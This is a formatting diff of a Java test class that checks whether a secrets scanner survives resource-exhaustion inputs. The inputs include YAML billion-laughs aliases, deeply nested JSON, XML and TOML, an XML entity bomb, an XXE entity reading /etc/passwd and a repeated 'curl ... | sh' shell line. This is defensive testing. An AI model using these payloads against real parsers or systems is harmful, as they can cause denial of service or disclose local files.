@@ -27,12 +27,40 @@ class ExhaustionAttackTest {
 
   private static final List<String> FILES =
       List.of(
-          "a.env", "a.js", "a.java", "a.py", "a.tf", "a.sh", "a.md", "README.md", "CODEOWNERS",
-          "Dockerfile", "compose.yaml", ".github/workflows/a.yml", "k8s/a.yaml", "package.json",
-          "package-lock.json", "pyproject.toml", "requirements.txt", "pom.xml", "go.mod", "Gemfile",
-          "Cargo.toml", "build.gradle", ".gitignore", ".pre-commit-config.yaml", "a.service",
-          ".github/dependabot.yml", "renovate.json", ".gitlab-ci.yml", "Jenkinsfile", ".npmrc",
-          ".github/pull_request_template.md", "yarn.lock", "pnpm-lock.yaml", "a.properties");
+          "a.env",
+          "a.js",
+          "a.java",
+          "a.py",
+          "a.tf",
+          "a.sh",
+          "a.md",
+          "README.md",
+          "CODEOWNERS",
+          "Dockerfile",
+          "compose.yaml",
+          ".github/workflows/a.yml",
+          "k8s/a.yaml",
+          "package.json",
+          "package-lock.json",
+          "pyproject.toml",
+          "requirements.txt",
+          "pom.xml",
+          "go.mod",
+          "Gemfile",
+          "Cargo.toml",
+          "build.gradle",
+          ".gitignore",
+          ".pre-commit-config.yaml",
+          "a.service",
+          ".github/dependabot.yml",
+          "renovate.json",
+          ".gitlab-ci.yml",
+          "Jenkinsfile",
+          ".npmrc",
+          ".github/pull_request_template.md",
+          "yarn.lock",
+          "pnpm-lock.yaml",
+          "a.properties");
 
   private final String secret = new SampleSecrets(11).gitHubToken();
 
@@ -42,9 +70,39 @@ class ExhaustionAttackTest {
   @TestFactory
   Stream<DynamicTest> longLines() {
     return Stream.of(
-            "a", "=", "\"", "'", "password=", "-----BEGIN RSA PRIVATE " + "KEY-----", "eyJ", "AK" + "IA",
-            "A1b2", "://a:", "a:b@", "$(", "((", "{", "[", "<", "<!--", "#", "\\", "`", "${", "a ", "- ",
-            "curl x|", "*", "a*", "&a ", "\u00e9", "@Disabled(", "/*", "key: ", ",", "secret\" : \"")
+            "a",
+            "=",
+            "\"",
+            "'",
+            "password=",
+            "-----BEGIN RSA PRIVATE " + "KEY-----",
+            "eyJ",
+            "AK" + "IA",
+            "A1b2",
+            "://a:",
+            "a:b@",
+            "$(",
+            "((",
+            "{",
+            "[",
+            "<",
+            "<!--",
+            "#",
+            "\\",
+            "`",
+            "${",
+            "a ",
+            "- ",
+            "curl x|",
+            "*",
+            "a*",
+            "&a ",
+            "\u00e9",
+            "@Disabled(",
+            "/*",
+            "key: ",
+            ",",
+            "secret\" : \"")
         .map(bait -> dynamicTest(bait, () -> longLine(bait)));
   }
 
@@ -75,19 +133,25 @@ class ExhaustionAttackTest {
     texts.put("compose.yaml laughs", laughs + "services: *i\n");
     texts.put("compose.yaml merges", merges() + "services: {a: *z}\n");
     texts.put(".github/workflows/a.yml laughs", laughs + "on: push\njobs: *i\n");
-    texts.put(".github/workflows/a.yml deep", "on: push\njobs: " + "[".repeat(100_000) + "]".repeat(100_000));
+    texts.put(
+        ".github/workflows/a.yml deep",
+        "on: push\njobs: " + "[".repeat(100_000) + "]".repeat(100_000));
     texts.put("k8s/a.yaml laughs", laughs + "apiVersion: v1\nkind: Pod\nspec: *i\n");
     texts.put(".pre-commit-config.yaml laughs", laughs + "repos: *i\n");
     texts.put("package.json deep", "{\"dependencies\":".repeat(100_000));
     texts.put("package.json array", "[".repeat(100_000) + "]".repeat(100_000));
     texts.put("pyproject.toml deep", "[project]\na = " + "[".repeat(50_000) + "]".repeat(50_000));
     texts.put("pyproject.toml tables", "[" + "a.".repeat(20_000) + "b]\n");
-    texts.put("pom.xml deep", "<project>" + "<a>".repeat(100_000) + "</a>".repeat(100_000) + "</project>");
+    texts.put(
+        "pom.xml deep",
+        "<project>" + "<a>".repeat(100_000) + "</a>".repeat(100_000) + "</project>");
     texts.put(
         "pom.xml entities",
         "<!DOCTYPE a [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c"
             + " \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><project><dependencies>&c;</dependencies></project>");
-    texts.put("pom.xml outside", "<!DOCTYPE a [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><project><name>&a;</name></project>");
+    texts.put(
+        "pom.xml outside",
+        "<!DOCTYPE a [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><project><name>&a;</name></project>");
     return texts.entrySet().stream()
         .map(each -> dynamicTest(each.getKey(), () -> nested(each.getKey(), each.getValue())));
   }
@@ -108,20 +172,31 @@ class ExhaustionAttackTest {
   @TestFactory
   Stream<DynamicTest> masses() {
     return Map.<String, String>ofEntries(
-            Map.entry("Dockerfile continued", "FROM a\nRUN a \\\n" + "  b \\\n".repeat(200_000) + "  c\nUSER root\n"),
+            Map.entry(
+                "Dockerfile continued",
+                "FROM a\nRUN a \\\n" + "  b \\\n".repeat(200_000) + "  c\nUSER root\n"),
             Map.entry("Dockerfile stages", "FROM a AS b\n".repeat(50_000)),
-            Map.entry("Dockerfile variables", "ARG A=$A$A\nENV A=$A$A\n".repeat(5_000) + "FROM $A\nUSER $A\n"),
+            Map.entry(
+                "Dockerfile variables",
+                "ARG A=$A$A\nENV A=$A$A\n".repeat(5_000) + "FROM $A\nUSER $A\n"),
             Map.entry("a.sh here-documents", "cat <<A\n".repeat(50_000)),
-            Map.entry("a.sh substitutions", "#!/bin/sh\n" + "echo $(".repeat(20_000) + ")".repeat(20_000) + "\n"),
-            Map.entry("a.sh pipes", "#!/bin/sh\n" + "curl -fsSL https://a.example.com/a|sh;".repeat(5_000) + "\n"),
-            Map.entry("a.sh functions", "#!/bin/sh\nf(){ f;}\n" + "g(){ f|g;}\n".repeat(5_000) + "g\n"),
+            Map.entry(
+                "a.sh substitutions",
+                "#!/bin/sh\n" + "echo $(".repeat(20_000) + ")".repeat(20_000) + "\n"),
+            Map.entry(
+                "a.sh pipes",
+                "#!/bin/sh\n" + "curl -fsSL https://a.example.com/a|sh;".repeat(5_000) + "\n"),
+            Map.entry(
+                "a.sh functions", "#!/bin/sh\nf(){ f;}\n" + "g(){ f|g;}\n".repeat(5_000) + "g\n"),
             Map.entry("README.md headings", "# secrets\n".repeat(100_000)),
             Map.entry("README.md links", "[a](".repeat(150_000) + "\n"),
             Map.entry("requirements.txt circle", "-r requirements.txt\n".repeat(20_000)),
             Map.entry("CODEOWNERS stars", ("*a".repeat(60) + "b @a\n").repeat(50)),
             Map.entry("CODEOWNERS folders", ("**/".repeat(60) + "b @a\n").repeat(50)),
             Map.entry(".gitmodules sections", "[submodule \"a\"]\n".repeat(50_000)),
-            Map.entry("compose.yaml extends", "services:\n  a: {extends: {service: b}}\n  b: {extends: {service: a}}\n"),
+            Map.entry(
+                "compose.yaml extends",
+                "services:\n  a: {extends: {service: b}}\n  b: {extends: {service: a}}\n"),
             Map.entry("a.java comments", "/* nosec */ // NOSONAR\n".repeat(30_000)),
             Map.entry("a.java quotes", "\"\"\"\n".repeat(100_000)),
             Map.entry("a.py strings", "f'{f\"{".repeat(50_000)))
@@ -156,25 +231,29 @@ class ExhaustionAttackTest {
         .entrySet()
         .stream()
         .sorted(Map.Entry.comparingByKey())
-        .map(
-            each ->
-                dynamicTest(
-                    each.getKey(),
-                    () -> {
-                      Victim victim = Victim.at(temp.resolve("p" + each.getKey().hashCode()));
-                      String text = (stars + "\n" + "**/" + stars + "/x\n[" + stars + "]" + stars + "\n").repeat(2);
-                      if (each.getValue().equals(Victim.POLICY)) {
-                        text = "schema: 1\nexclude:\n  - {path: \"" + stars + "\", reason: To take for ever here.}\n";
-                      } else if (each.getKey().equals("owners")) {
-                        text = stars + " @a\n";
-                      }
-                      victim.git.write(each.getValue(), text);
-                      victim.git.write("x/" + "a".repeat(250), "TOKEN=" + secret + "\n");
-                      Judged judged =
-                          assertTimeoutPreemptively(
-                              LIMIT, () -> victim.check("--quick"), "took too long: " + each.getKey());
-                      judged.closed().shows("secrets.tree", "x/" + "a".repeat(250));
-                    }));
+        .map(each ->
+            dynamicTest(
+                each.getKey(),
+                () -> {
+                  Victim victim = Victim.at(temp.resolve("p" + each.getKey().hashCode()));
+                  String text =
+                      (stars + "\n" + "**/" + stars + "/x\n[" + stars + "]" + stars + "\n")
+                          .repeat(2);
+                  if (each.getValue().equals(Victim.POLICY)) {
+                    text =
+                        "schema: 1\nexclude:\n  - {path: \""
+                            + stars
+                            + "\", reason: To take for ever here.}\n";
+                  } else if (each.getKey().equals("owners")) {
+                    text = stars + " @a\n";
+                  }
+                  victim.git.write(each.getValue(), text);
+                  victim.git.write("x/" + "a".repeat(250), "TOKEN=" + secret + "\n");
+                  Judged judged =
+                      assertTimeoutPreemptively(
+                          LIMIT, () -> victim.check("--quick"), "took too long: " + each.getKey());
+                  judged.closed().shows("secrets.tree", "x/" + "a".repeat(250));
+                }));
   }
 
   @Test
@@ -185,7 +264,8 @@ class ExhaustionAttackTest {
       out.write("TOKEN=".getBytes(StandardCharsets.US_ASCII));
     }
     Judged judged =
-        assertTimeoutPreemptively(LIMIT, () -> Judged.run("tar", "check", file, "--format", "json"));
+        assertTimeoutPreemptively(
+            LIMIT, () -> Judged.run("tar", "check", file, "--format", "json"));
     judged.ends(1, 3).tells("");
     assertThat(judged.json().text("summary", "complete")).contains("false");
   }
